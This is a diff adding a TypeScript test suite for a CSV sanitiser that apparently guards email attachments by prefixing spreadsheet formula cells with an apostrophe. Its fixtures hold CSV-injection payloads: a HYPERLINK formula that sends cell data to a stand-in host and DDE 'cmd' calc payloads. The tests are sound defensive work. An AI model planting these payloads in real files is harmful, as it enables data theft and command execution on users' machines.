@@ -1,0 +1,156 @@
+// CSV crosses as UTF-8 text/plain (never text/csv), with every cell that a
+// spreadsheet would run as a formula prefixed by an apostrophe, plain numbers
+// untouched, and the table's shape unchanged.
+import { parse } from 'csv-parse/sync';
+import iconv from 'iconv-lite';
+import { describe, expect, it } from 'vitest';
+import { neutraliseCsv } from '../../src/core/csv.js';
+import { violations } from '../helpers/conformance.js';
+import { run, withAttachments, type Outcome, type PartSpec } from '../helpers/run.js';
+
+const read = (text: string): string[][] => parse(text, { relax_column_count: true, skip_empty_lines: false, bom: true }) as string[][];
+const shape = (rows: string[][]): number[] => rows.map((r) => r.length);
+
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example.net/?q="&A1,"詳細")',
+  '=1+2',
+  '+81-3-1234-5678',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(A1:A9)',
+  '＝SUM(A1)',
+  '＋1',
+  '－1+1',
+  '＠SUM(A1)',
+  '\t=1+2',
+  ' =1+2',
+  '=cmd|"/c calc"!A1',
+];
+const PLAIN = ['-5', '+3.2', '1,000', '-1,234.5', '10%', '0', '', '山田', '東京都千代田区', "'=already", 'a=b', '3-1'];
+
+describe('neutraliseCsv', () => {
+  it('prefixes every formula cell with an apostrophe, wherever it is in the row', () => {
+    for (const f of FORMULAS) {
+      const input = `名前,値,備考\n山田,"${f.replace(/"/g, '""')}",x\n"${f.replace(/"/g, '""')}",1,2\n`;
+      const { text, neutralised } = neutraliseCsv(input);
+      expect(neutralised, f).toBe(2);
+      const rows = read(text);
+      expect(rows[1]![1], f).toBe(`'${f}`);
+      expect(rows[2]![0], f).toBe(`'${f}`);
+      expect(shape(rows)).toEqual(shape(read(input)));
+    }
+  });
+
+  it('neutralises an unquoted formula too', () => {
+    const { text, neutralised } = neutraliseCsv('a,=1+2,@A1\n');
+    expect(neutralised).toBe(2);
+    expect(read(text)).toEqual([['a', "'=1+2", "'@A1"]]);
+  });
+
+  it('leaves plain numbers and ordinary text alone', () => {
+    const row = PLAIN.map((c) => `"${c}"`).join(',');
+    const { text, neutralised } = neutraliseCsv(`${row}\n`);
+    expect(neutralised).toBe(0);
+    expect(read(text)).toEqual([PLAIN]);
+  });
+
+  it('keeps quoted cells with commas, quotes and line breaks intact, and the shape of the table', () => {
+    const input = ['id,住所,メモ,金額', '1,"札幌市, 北区","一行目\n二行目",-5', '2,"He said ""hi""","=1+2\n=3+4",+3.2', '3,,,', '4'].join('\n') + '\n';
+    const { text, neutralised } = neutraliseCsv(input);
+    expect(neutralised).toBe(1);
+    const before = read(input);
+    const after = read(text);
+    expect(shape(after)).toEqual(shape(before));
+    expect(after).toEqual([
+      ['id', '住所', 'メモ', '金額'],
+      ['1', '札幌市, 北区', '一行目\n二行目', '-5'],
+      ['2', 'He said "hi"', "'=1+2\n=3+4", '+3.2'],
+      ['3', '', '', ''],
+      ['4'],
+    ]);
+  });
+
+  it('keeps empty lines as rows and ends with one line break', () => {
+    const { text } = neutraliseCsv('a,b\n\nc,d');
+    expect(text).toBe('a,b\n\nc,d\n');
+  });
+
+  it('still neutralises a quoted formula when an unclosed quote elsewhere stops the parser', () => {
+    // csv-parse throws on the unclosed quote in the last line; Excel still
+    // reads the first line's quoted cell as a formula.
+    const input = '"=HYPERLINK(""https://evil.example.net/"",""click"")",ok\n"+cmd|\' /C calc\'!A0",x\n-5,"unclosed,y\n';
+    expect(() => read(input)).toThrow();
+    const { text, neutralised } = neutraliseCsv(input);
+    expect(neutralised).toBe(2);
+    const lines = text.split('\n');
+    expect(read(lines[0]!)[0]![0]).toBe('\'=HYPERLINK("https://evil.example.net/","click")');
+    expect(read(lines[1]!)[0]![0]).toBe("'+cmd|' /C calc'!A0");
+    expect(lines[2]).toMatch(/^-5,/);
+  });
+
+  it('neutralises unquoted formula cells when the parser gives up', () => {
+    const { text, neutralised } = neutraliseCsv('=1+2,@x,-5\n"open\n');
+    expect(neutralised).toBe(2);
+    expect(text.split('\n')[0]).toBe("'=1+2,'@x,-5");
+  });
+});
+
+describe('a CSV attachment end to end', () => {
+  const send = async (parts: PartSpec[]): Promise<Outcome> => {
+    const o = await run(withAttachments('名簿を送ります。', parts));
+    expect(o.result.action).toBe('deliver');
+    expect(await violations(o.raw!)).toEqual([]);
+    return o;
+  };
+
+  const CSV = [
+    '氏名,電話,備考,金額',
+    '髙橋 一郎,+81-3-1234-5678,"=HYPERLINK(""https://evil.example.net/"",""詳細"")",-5',
+    '山﨑 花子,03-1234-5678,"@SUM(A1)",+3.2',
+    '"佐藤, 次郎",090-0000-0000,"-2+3+cmd|\' /C calc\'!A0","1,000"',
+    '鈴木 ①,＝1+1,"二行の\n備考",0',
+  ].join('\r\n') + '\r\n';
+
+  it('delivers Shift_JIS 名簿.csv as UTF-8 text/plain 名簿.csv.txt with formulas neutralised', async () => {
+    const o = await send([{ type: 'text/csv; charset=Shift_JIS', filename: '名簿.csv', body: iconv.encode(CSV, 'cp932') }]);
+    const codes = o.result.findings.filter((f) => f.attachment === 1);
+    expect(codes).toEqual([
+      { code: 'text-reencoded', attachment: 1, detail: 'CP932 -> UTF-8' },
+      { code: 'csv-formula-neutralised', attachment: 1, detail: '5 cells' },
+    ]);
+    const a = o.mail!.attachments[0]!;
+    expect(a.filename).toBe('名簿.csv.txt');
+    expect(a.contentType).toBe('text/plain');
+    expect(o.raw!.toString('latin1')).not.toMatch(/text\/csv/i);
+    const text = new TextDecoder('utf-8', { fatal: true }).decode(a.content);
+    const rows = read(text);
+    expect(shape(rows)).toEqual(shape(read(CSV)));
+    expect(rows).toEqual([
+      ['氏名', '電話', '備考', '金額'],
+      ['髙橋 一郎', "'+81-3-1234-5678", '\'=HYPERLINK("https://evil.example.net/","詳細")', '-5'],
+      ['山﨑 花子', '03-1234-5678', "'@SUM(A1)", '+3.2'],
+      ['佐藤, 次郎', '090-0000-0000', "'-2+3+cmd|' /C calc'!A0", '1,000'],
+      ['鈴木 ①', "'＝1+1", '二行の\n備考', '0'],
+    ]);
+  });
+
+  it('treats a file declared text/csv as CSV whatever its name, and a .csv as CSV whatever its type', async () => {
+    const o = await send([
+      { type: 'text/csv; charset=utf-8', filename: 'data.txt', body: 'a,=1+2\n' },
+      { type: 'application/octet-stream', filename: 'export.CSV', body: 'a,@SUM(A1)\n' },
+      { type: 'text/csv; charset=utf-8', body: '=1,2\n' },
+    ]);
+    expect(o.result.findings.filter((f) => f.code === 'csv-formula-neutralised').map((f) => f.attachment)).toEqual([1, 2, 3]);
+    const atts = o.mail!.attachments;
+    expect(atts.map((a) => a.contentType)).toEqual(['text/plain', 'text/plain', 'text/plain']);
+    expect(atts[0]!.filename).toBe('data.txt');
+    expect(atts[1]!.filename).toBe('export.CSV.txt');
+    expect(atts[2]!.filename).toMatch(/\.txt$/);
+    expect(atts.map((a) => a.content.toString('utf8'))).toEqual(["a,'=1+2\n", "a,'@SUM(A1)\n", "'=1,2\n"]);
+  });
+
+  it('reports no neutralisation for a CSV with only plain values', async () => {
+    const o = await send([{ type: 'text/csv; charset=utf-8', filename: '集計.csv', body: '月,件数\n4月,-5\n5月,+3.2\n' }]);
+    expect(o.result.findings.filter((f) => f.attachment === 1).map((f) => f.code)).toEqual(['text-reencoded']);
+    expect(o.mail!.attachments[0]!.content.toString('utf8')).toBe('月,件数\n4月,-5\n5月,+3.2\n');
+  });
+});
